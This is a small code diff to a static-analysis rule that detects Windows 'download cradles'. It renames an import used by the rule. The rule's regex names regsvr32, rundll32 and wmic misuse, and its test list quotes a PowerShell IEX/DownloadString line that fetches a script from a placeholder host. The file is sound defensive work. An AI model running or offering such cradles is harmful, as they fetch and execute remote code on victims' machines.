@@ -2,7 +2,8 @@
  * System programs misused as downloaders. Each has honest switches; these are the other ones.
  */
 import { defineRule } from "@portcullis/engine/static";
-import { MENTION, re } from "../words.ts";
+import { TALK } from "../targets.ts";
+import { re } from "../words.ts";
 
 export default defineRule({
   id: "windows-download-cradle",
@@ -21,7 +22,7 @@ export default defineRule({
     regsvr32(?:\.exe)? [^;|]{0,40}/i:https?://|rundll32(?:\.exe)? javascript:|
     wmic [^;|]{0,40}/format:["']?https?://)
   `,
-  mention: MENTION,
+  mention: TALK,
   window: 240,
   catches: [
     "«IEX (New-Object Net.WebClient).DownloadString»('http://outside.example/a.ps1')",
